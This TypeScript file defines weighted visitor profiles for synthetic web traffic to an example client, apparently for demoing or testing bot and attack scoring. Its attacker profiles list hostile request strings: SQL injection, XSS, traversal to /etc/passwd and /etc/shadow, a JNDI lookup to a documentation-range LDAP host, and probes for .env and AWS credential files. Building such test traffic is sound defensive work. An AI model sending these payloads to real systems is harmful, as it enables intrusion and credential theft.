/** Who comes to an example client, from where, and what they ask for. Addresses, networks and names are those of RFCs 5737, 3849, 5398 and 2606. */

/** Requests that one kind of visitor makes. `{n}` in a URI is a number of up to three digits, `{n5}` and `{n8}` of five and eight, `{w}` a word. */
interface RequestKind {
  readonly weight: number;
  readonly method: 'GET' | 'POST' | 'PUT' | 'HEAD' | 'OPTIONS' | 'TRACE' | 'PROPFIND';
  readonly host: string;
  readonly uris: readonly string[];
}

export interface VisitorProfile {
  readonly kind: string;
  /** Of a thousand requests. */
  readonly weight: number;
  /** Networks: the last part of an address is made up where it ends with `.` or `:`. */
  readonly addresses: readonly string[];
  readonly asns: readonly number[];
  readonly countries: readonly { readonly weight: number; readonly code: string }[];
  readonly agents: readonly string[];
  /** Lowest and highest score of bot management (1 is surely a bot) and of the attack score (1 is surely an attack). */
  readonly botScore: readonly [number, number];
  readonly attackScore: readonly [number, number];
  readonly protocols: readonly string[];
  readonly tls: readonly string[];
  readonly botCategory: string;
  readonly asked: readonly RequestKind[];
}

export interface Profile {
  readonly client: string;
  readonly seed: number;
  /** Country of most visitors. */
  readonly visitors: readonly VisitorProfile[];
}

const browsers = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:145.0) Gecko/20100101 Firefox/145.0',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/19.1 Safari/605.1.15',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 19_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/19.1 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Linux; Android 16) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Mobile Safari/537.36',
];

/** What visitors have unless they say otherwise. */
const person = {
  addresses: ['203.0.113.', '198.51.100.', '2001:db8:1:'],
  asns: [64_500, 64_501, 64_503, 65_540],
  agents: browsers,
  botScore: [60, 99],
  attackScore: [70, 99],
  protocols: ['HTTP/2', 'HTTP/2', 'HTTP/3', 'HTTP/1.1'],
  tls: ['TLSv1.3', 'TLSv1.3', 'TLSv1.3', 'TLSv1.2'],
  botCategory: '',
} as const;

const everywhere = [
  { weight: 3, code: 'us' },
  { weight: 3, code: 'cn' },
  { weight: 2, code: 'ru' },
  { weight: 2, code: 'br' },
  { weight: 1, code: 'vn' },
  { weight: 1, code: 'ir' },
  { weight: 1, code: 't1' },
];

const robot = { ...person, countries: everywhere, protocols: ['HTTP/1.1', 'HTTP/2'] } as const;

function get(host: string, uris: readonly string[], weight = 1): RequestKind {
  return { weight, method: 'GET', host, uris };
}

/** Those who come to every site, whatever it is. `login` is where passwords are tried. */
export function uninvited(
  site: string,
  login: { readonly host: string; readonly uri: string },
): readonly VisitorProfile[] {
  return [...robots(site), ...attackers(site, login), oddClient(site)];
}

function robots(site: string): readonly VisitorProfile[] {
  return [
    {
      ...robot,
      kind: 'search engine',
      weight: 35,
      addresses: ['192.0.2.'],
      asns: [65_536],
      countries: [{ weight: 1, code: 'us' }],
      agents: ['Mozilla/5.0 (compatible; ExampleSearch/2.1; +https://search.example/bot)'],
      botScore: [1, 1],
      botCategory: 'Search Engine Crawler',
      asked: [get(site, ['/', '/robots.txt', '/sitemap.xml', '/p/{w}-{n}', '/c/{w}'])],
    },
    {
      ...robot,
      kind: 'collector of training data',
      weight: 8,
      addresses: ['192.0.2.'],
      asns: [65_537],
      agents: ['Mozilla/5.0 (compatible; ExampleModelBot/1.0)'],
      botScore: [1, 1],
      botCategory: 'AI Crawler',
      asked: [get(site, ['/', '/robots.txt', '/c/{w}', '/p/{w}-{n}'])],
    },
    {
      ...robot,
      kind: 'scraper',
      weight: 14,
      asns: [64_496, 64_497, 64_511],
      agents: [...browsers, 'python-requests/2.32'],
      botScore: [1, 20],
      asked: [get(site, ['/p/{w}-{n}', '/c/{w}?page={n}', '/search?q={w}'])],
    },
  ];
}

function attackers(
  site: string,
  login: { readonly host: string; readonly uri: string },
): readonly VisitorProfile[] {
  return [
    {
      ...robot,
      kind: 'scanner',
      weight: 11,
      asns: [64_498, 64_499],
      agents: ['Mozilla/5.0 zgrab/0.x', 'sqlmap/1.9', 'Nikto/2.5', 'nuclei - scanner', 'curl/8.5.0', ''],
      botScore: [1, 5],
      attackScore: [5, 60],
      asked: [
        get(site, [
          '/.env',
          '/.git/config',
          '/wp-login.php',
          '/xmlrpc.php',
          '/.aws/credentials',
          '/user/login',
          '/cgi-bin/test.cgi',
          '/old/index.php',
        ]),
      ],
    },
    {
      ...robot,
      kind: 'attack',
      weight: 12,
      botScore: [1, 40],
      attackScore: [1, 14],
      asked: [
        get(site, [
          "/p/{w}-{n}?id={n}'%20union%20select%20password%20from%20users--",
          '/search?q=%3Cscript%3Ealert({n})%3C/script%3E',
          '/download?file=../../../../etc/passwd',
          '/static/..%2f..%2f..%2fetc/shadow',
          '/?x=$%7Bjndi:ldap://198.51.100.{n}/a%7D',
        ]),
      ],
    },
    {
      ...robot,
      kind: 'credential stuffing',
      weight: 10,
      addresses: ['198.51.100.', '203.0.113.'],
      botScore: [1, 25],
      attackScore: [60, 99],
      asked: [{ weight: 1, method: 'POST', host: login.host, uris: [login.uri] }],
    },
  ];
}

function oddClient(site: string): VisitorProfile {
  return {
    ...robot,
    kind: 'odd client',
    weight: 10,
    agents: ['', '-', 'x'.repeat(900), 'Mozilla/4.0 (compatible; MSIE 6.0)', 'Ünïcode'],
    botScore: [10, 90],
    protocols: ['HTTP/1.0', 'HTTP/1.1'],
    tls: ['TLSv1', 'TLSv1.1', 'TLSv1.2', 'none'],
    asked: [
      get(
        site,
        [
          '/',
          '//',
          '/%2e/',
          '/a%2Fb',
          `/${'long/'.repeat(150)}`,
          '/?',
          '/?=&&',
          '/index.html;jsessionid={n}',
        ],
        4,
      ),
      { weight: 1, method: 'TRACE', host: site, uris: ['/'] },
      { weight: 1, method: 'PROPFIND', host: site, uris: ['/'] },
      { weight: 1, method: 'OPTIONS', host: site, uris: ['*'] },
      { weight: 2, method: 'GET', host: `${site}:443`, uris: ['/'] },
      { weight: 1, method: 'GET', host: `${site}.`, uris: ['/'] },
      { weight: 1, method: 'HEAD', host: site.toUpperCase(), uris: ['/'] },
    ],
  };
}

/** A person or program that is welcome. */
export function welcome(
  kind: string,
  weight: number,
  given: Partial<VisitorProfile> & Pick<VisitorProfile, 'asked' | 'countries'>,
): VisitorProfile {
  return { ...person, kind, weight, ...given };
}
